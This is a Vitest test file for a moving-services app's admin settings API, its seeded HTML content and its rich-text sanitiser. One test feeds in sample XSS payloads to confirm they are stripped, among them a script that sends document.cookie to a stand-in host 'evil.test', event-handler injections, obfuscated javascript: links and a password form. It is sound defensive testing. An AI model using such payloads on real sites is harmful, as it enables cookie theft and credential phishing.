import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { SETTING_KEYS } from '@movehub/shared';
import { settings } from '../src/db/schema';
import { seed } from '../src/db/seed/index';
import { SETTINGS_SEED, SUPERSEDED_SETTINGS } from '../src/db/seed/settings';
import { sanitizeRichText } from '../src/lib/safe-html';
import { setSetting } from '../src/modules/settings/settings.service';
import { buildTestApp, type TestContext } from './helper';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await buildTestApp();
});
afterAll(() => ctx.close());

const getSetting = async () => {
  const res = await ctx.app.inject({ method: 'GET', url: '/api/admin/get_setting' });
  expect(res.statusCode).toBe(200);
  return res.json() as { code: number; message: string; setting_data: Record<string, string> };
};

describe('GET /api/admin/get_setting', () => {
  it('answers without a token with all eight sections as seeded HTML', async () => {
    const body = await getSetting();
    expect(body.code).toBe(200);
    expect(Object.keys(body.setting_data).sort()).toEqual([...SETTING_KEYS].sort());
    for (const key of SETTING_KEYS) {
      expect(body.setting_data[key], key).toMatch(/^<(p|h3|ol|ul|table)>/);
      expect(body.setting_data[key]!.length, key).toBeGreaterThan(300);
    }
  });

  it('seeds content about this product: escrow, licensed movers, the 5% referral, the fee', async () => {
    const { setting_data: s } = await getSetting();
    expect(s.about).toContain('MoveHub');
    expect(s.about).toContain('escrow');
    expect(s.faq).toContain('licen');
    expect(s.faq).toContain('insurance');
    expect(s.faq).toContain('5% off');
    expect(s.faq).toContain('2.9% plus $0.30');
    expect(s.faq!.match(/<h3>/g)!.length).toBeGreaterThanOrEqual(8);
    expect(s.how_evom_work!.match(/<li>/g)!.length).toBeGreaterThanOrEqual(6);
    expect(s.cancellation_policy).toContain('<table>');
    expect(s.contact_us).toContain('href="mailto:');
    expect(s.privacy_policy).toContain('We do not sell your personal information');
  });

  it('stores the seeded content already in its sanitised form', () => {
    for (const key of SETTING_KEYS) {
      const clean = sanitizeRichText(SETTINGS_SEED[key]);
      // Sanitising what is stored changes nothing: the seed uses only allowed markup.
      expect(sanitizeRichText(clean), key).toBe(clean);
      // Nor did sanitising drop anything of the seed; it only adds the safe rel and target.
      const added = / target="_blank" rel="noopener noreferrer nofollow"/g;
      expect(clean.replace(added, '').replace(/\s+/g, ' '), key).toBe(
        SETTINGS_SEED[key].trim().replace(/\s+/g, ' '),
      );
    }
  });
});

describe('setSetting', () => {
  it('sanitises on write: scripts, handlers, styles, frames and javascript: links are gone', async () => {
    const dirty = [
      '<h2 onclick="steal()">Who we are</h2>',
      '<script>fetch("https://evil.test/?c="+document.cookie)</script>',
      '<p style="position:fixed">Hello <img src=x onerror="alert(1)"> world</p>',
      '<iframe src="https://evil.test"></iframe>',
      '<style>body{display:none}</style>',
      '<a href="javascript:alert(1)">one</a>',
      '<a href="JaVaScRiPt:alert(2)">two</a>',
      '<a href="jav&#x61;script:alert(3)">three</a>',
      '<a href=" javascript:alert(4)">four</a>',
      '<a href="data:text/html,<script>alert(5)</script>">five</a>',
      '<svg onload="alert(6)"><circle/></svg>',
      '<form action="https://evil.test"><input name="password"></form>',
    ].join('');
    const stored = await setSetting({ db: ctx.database.db, key: 'legal', html: dirty });
    const { setting_data } = await getSetting();
    expect(setting_data.legal).toBe(stored);
    for (const bad of [
      '<script',
      'fetch(',
      'onclick',
      'onerror',
      'onload',
      'style',
      '<iframe',
      '<img',
      'javascript:',
      'data:',
      '<svg',
      '<form',
      '<input',
      'alert(',
    ]) {
      expect(stored.toLowerCase(), bad).not.toContain(bad);
    }
    expect(stored).toContain('<h2>Who we are</h2>');
    expect(stored).toContain('<p>Hello  world</p>');
    expect(stored).toContain('<a>one</a>');
  });

  it('keeps the allowed markup and makes links safe', async () => {
    const html =
      '<h3>Title</h3><p><b>Bold</b>, <i>italic</i>, <strong>strong</strong> and <em>em</em>.<br /></p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol>' +
      '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">B</td></tr></tbody></table>' +
      '<p><a href="https://www.fmcsa.dot.gov" target="_self" rel="opener">site</a> ' +
      '<a href="mailto:support@movehub.test">mail</a> <a href="tel:+13105550100">call</a> ' +
      '<a href="/create-request" target="_top">start</a></p>';
    const stored = await setSetting({ db: ctx.database.db, key: 'faq', html });
    expect(stored).toContain('<h3>Title</h3>');
    expect(stored).toContain('<strong>Bold</strong>, <em>italic</em>');
    expect(stored).toContain('<br />');
    expect(stored).toContain('<ul><li>one</li></ul><ol><li>two</li></ol>');
    expect(stored).toContain('<th scope="col">A</th>');
    expect(stored).toContain('<td colspan="2">B</td>');
    expect(stored).toContain(
      '<a href="https://www.fmcsa.dot.gov" target="_blank" rel="noopener noreferrer nofollow">site</a>',
    );
    expect(stored).toContain('<a href="mailto:support@movehub.test">mail</a>');
    expect(stored).toContain('<a href="tel:+13105550100">call</a>');
    expect(stored).toContain('<a href="/create-request">start</a>');
  });
});

describe('the settings seed', () => {
  it('runs in every mode, fills missing sections and never overwrites an edited one', async () => {
    await setSetting({ db: ctx.database.db, key: 'about', html: '<p>Edited by an admin.</p>' });
    await ctx.database.db.delete(settings).where(eq(settings.key, 'faq'));

    await seed({ db: ctx.database.db, demo: false });
    await seed({ db: ctx.database.db, demo: false });

    const { setting_data } = await getSetting();
    expect(setting_data.about).toBe('<p>Edited by an admin.</p>');
    expect(setting_data.faq).toBe(sanitizeRichText(SETTINGS_SEED.faq));
    expect(await ctx.database.db.select().from(settings)).toHaveLength(SETTING_KEYS.length);
  });

  it('brings an unedited earlier Cancellation policy up to the rule the code applies', async () => {
    const db = ctx.database.db;
    const earlier = SUPERSEDED_SETTINGS.cancellation_policy![0]!;
    await setSetting({ db, key: 'cancellation_policy', html: earlier });
    await seed({ db, demo: false });
    let { setting_data } = await getSetting();
    expect(setting_data.cancellation_policy).toBe(
      sanitizeRichText(SETTINGS_SEED.cancellation_policy),
    );

    // An administrator's own policy stays, even when it quotes the old one.
    const edited = `${earlier}<p>Call us for exceptions.</p>`;
    await setSetting({ db, key: 'cancellation_policy', html: edited });
    await seed({ db, demo: false });
    ({ setting_data } = await getSetting());
    expect(setting_data.cancellation_policy).toBe(sanitizeRichText(edited));
  });

  it('states the policy delete_request applies: 72 h full, half inside, none once started', async () => {
    await seed({ db: ctx.database.db, demo: false });
    const text = SETTINGS_SEED.cancellation_policy.replace(/\s+/g, ' ');
    expect(text).toContain('72 hours or more before your move window starts</td><td>Full refund');
    expect(text).toContain('less than 72 hours before your move window starts');
    expect(text).toContain('50% of the amount held in escrow is refunded');
    expect(text).toContain('Once the move has started');
    expect(text).toContain('No refund.');
  });
});
